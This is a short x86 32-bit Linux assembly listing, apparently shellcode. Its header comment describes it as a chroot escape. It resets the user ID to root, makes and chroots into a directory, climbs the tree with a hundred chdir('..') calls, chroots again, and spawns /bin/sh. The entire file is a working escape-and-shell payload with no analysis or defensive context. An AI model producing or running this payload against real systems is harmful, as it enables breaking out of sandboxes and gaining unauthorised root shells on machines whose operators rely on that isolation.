; Linux, 32 bit: leaves a chroot: root again, a folder, chroot into it, up a hundred times, chroot, shell.
bits 32
        xor ebx, ebx
        xor ecx, ecx
        push byte 70
        pop eax
        int 80h                 ; setreuid(0, 0)
        push ebx
        push word '..'
        mov edx, esp
        push ebx
        push dword 'kenb'
        mov ebx, esp
        push byte 39
        pop eax
        mov cx, 755o
        int 80h                 ; mkdir
        push byte 61
        pop eax
        int 80h                 ; chroot
        push byte 100
        pop ecx
        mov ebx, edx
up:     push byte 12
        pop eax
        int 80h                 ; chdir
        loop up
        push ecx
        push word '.'
        mov ebx, esp
        push byte 61
        pop eax
        int 80h
        xor edx, edx
        push edx
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push edx
        push ebx
        mov ecx, esp
        push byte 11
        pop eax
        int 80h
